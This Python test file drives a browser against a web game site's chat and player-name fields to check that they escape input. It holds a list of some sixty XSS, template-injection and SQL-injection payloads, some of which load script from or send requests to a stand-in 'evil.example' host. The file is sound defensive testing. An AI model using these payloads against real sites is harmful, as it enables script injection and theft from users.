"""Names and chat lines that try to run something: none does, wherever they are shown."""

import json
from urllib.request import Request, urlopen

import pytest
from playwright.sync_api import Browser, expect
from websockets.sync.client import connect
from websockets.typing import Subprotocol

from asobiba.online.protocol.messages import PROTOCOL
from tests.web.browser import Person, Served, person, without_board

# Each tries to call alert, or leaves a mark that the test would find.
TAGS = [
    "<script>alert(1)</script>",
    "<svg/onload=alert()>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>click</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math href=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x",
    "<style>@import 'javascript:alert(1)'</style>",
    "<link rel=stylesheet href=data:,*{color:red}>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><img src=x onerror=alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x onclick=alert(1)>click",
    "<p style=background:url(javascript:alert(1))>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>fetch('//evil.example')</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
]
TEXTS = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "'\"><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "`${alert(1)}`",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{alert(1)}",
    "{who}{text}{count}",
    "{message}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "__proto__",
    "constructor",
    "toString",
    "'; DROP TABLE room; --",
    "seat.black",
]
PAYLOADS = [*TAGS, *TEXTS]
SHORT = [payload for payload in PAYLOADS if len(payload) <= 20]
"""Those that fit into a name."""


def ask(url: str, body: object, token: str = "") -> dict[str, str]:
    headers = {"content-type": "application/json", **({"authorization": f"Bearer {token}"} if token else {})}
    with urlopen(Request(url, json.dumps(body).encode(), headers), timeout=60) as answer:
        told: dict[str, str] = json.load(answer)
        return told


def guard(someone: Person) -> None:
    """Anything that runs or is forbidden by the page's policy is remembered."""
    someone.context.add_init_script(
        "window.ran = [];"
        "window.alert = (text) => window.ran.push(`alert ${text}`);"
        "document.addEventListener('securitypolicyviolation', (event) => window.ran.push(event.violatedDirective));"
    )


def test_there_are_enough() -> None:
    assert len(set(PAYLOADS)) >= 50
    assert len(SHORT) >= 10


@pytest.mark.thorough
@pytest.mark.parametrize("lang", ["en", pytest.param("ja", marks=pytest.mark.slow)])
def test_chat_lines_are_only_read(browser: Browser, server: Served, lang: str) -> None:
    with person(browser, server.url, lang=lang) as ann, person(browser, server.url, lang=lang) as bob:
        for each in (ann, bob):
            guard(each)
            without_board(each, "othello")
        page = ann.open()
        page.locator(".game-card").filter(has=page.locator('a[href="/how/othello"]')).get_by_role("button").nth(
            1
        ).click()
        expect(page.locator("#share")).to_be_visible()
        bob.page.goto(page.url)
        expect(bob.page.locator(".waiting")).to_be_visible()
        box = page.locator(".chat input")
        for payload in PAYLOADS:
            box.fill(payload)
            box.press("Enter")
        for someone in (ann, bob):
            lines = someone.page.locator(".chat li", has=someone.page.locator("strong"))
            expect(lines).to_have_count(len(PAYLOADS))
            shown = lines.all_inner_texts()
            assert all(line.endswith(payload) for line, payload in zip(shown, PAYLOADS, strict=True))
            assert someone.page.evaluate("window.ran") == []


@pytest.mark.slow
def test_names_are_only_read_on_every_page(browser: Browser, server: Served) -> None:
    """In the lobby, on a seat, in the log, in results, replays and in the settings."""
    rooms = [_room_of(server.url, name) for name in SHORT]
    over = [_finished(server.url, name) for name in SHORT]
    with person(browser, server.url) as ann:
        guard(ann)
        page = ann.open()
        for name in SHORT:
            expect(page.locator(".rooms").first).to_contain_text(name)
        expect(page.locator(".rooms").last).to_contain_text("Replay")
        for name, room in zip(SHORT, rooms, strict=True):
            page.goto(f"{server.url}/room/{room}")
            expect(page.locator(".waiting")).to_contain_text(name)
            expect(page.locator(".chat")).to_contain_text(name)
            assert page.evaluate("window.ran") == []
        for name, room in zip(SHORT, over, strict=True):
            page.goto(f"{server.url}/replay/{room}/1")
            expect(page.locator(".replay-head")).to_contain_text(name)
            assert page.evaluate("window.ran") == []
        page.goto(f"{server.url}/settings")
        page.get_by_label("Your name").fill(TAGS[1])
        page.get_by_role("button", name="Save").click()
        expect(page.locator(".notice")).to_be_visible()
        assert page.evaluate("window.ran") == []


def _room_of(url: str, name: str) -> str:
    """A room that waits, of a guest with this name."""
    guest = ask(f"{url}/api/guests", {"name": name})
    return ask(f"{url}/api/rooms", {"game": "othello", "seat": 0}, guest["token"])["room"]


def _finished(url: str, name: str) -> str:
    """A room whose game the guest has given up."""
    guest = ask(f"{url}/api/guests", {"name": name})
    seat = ask(f"{url}/api/rooms", {"game": "twenty48", "seat": 0, "ready": True}, guest["token"])
    with connect(
        f"{url.replace('http', 'ws')}/ws",
        subprotocols=[Subprotocol(PROTOCOL)],
        additional_headers={"authorization": f"Bearer {guest['token']}"},
    ) as line:
        line.send(json.dumps({"t": "hello", "room": seat["room"], "token": seat["token"]}))
        line.send(json.dumps({"t": "resign"}))
        while '"status":"over"' not in str(line.recv(timeout=60)):
            pass
    return seat["room"]
